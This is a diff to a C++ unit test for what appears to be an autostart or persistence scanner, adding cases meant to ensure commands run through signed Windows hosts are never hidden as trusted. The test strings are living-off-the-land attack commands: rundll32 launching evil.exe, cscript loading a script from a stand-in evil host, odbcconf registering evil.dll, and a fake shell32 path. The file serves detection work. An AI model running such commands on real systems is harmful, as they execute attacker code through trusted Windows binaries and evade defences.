@@ -83,7 +83,14 @@ TEST_F(Publisher, AWindowsHostGivenSomethingToRunIsNeverHidden)
     }
     std::string viaDll = std::string("rundll32.exe \"") + dll + "\",ShellExec_RunDLL C:\\evil.exe";
     std::string viaScript = std::string("cscript.exe /b \"") + script + "\" x script:https://evil/x";
-    for (const std::string &command : {viaDll, viaScript}) {
+    // A copy of a Windows file given that file; a Windows program no list of
+    // hosts names, given something to run.
+    const char *odbc = "C:\\Windows\\System32\\odbcconf.exe";
+    MemAddFile(odbc, "MZ");
+    MemSetSignature(odbc, PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
+    std::string impostor = std::string("C:\\Users\\u\\AppData\\Roaming\\shell32 \"") + dll + "\"";
+    std::string viaOdbc = std::string(odbc) + " /a {regsvr C:\\Users\\u\\evil.dll}";
+    for (const std::string &command : {viaDll, viaScript, impostor, viaOdbc}) {
         AutostartItem item = ScanOf({command.c_str()});
         EXPECT_TRUE(item.signedByWindows) << item.target;
         EXPECT_EQ(0, ItemHiddenAsWindows(&item, 1)) << command;
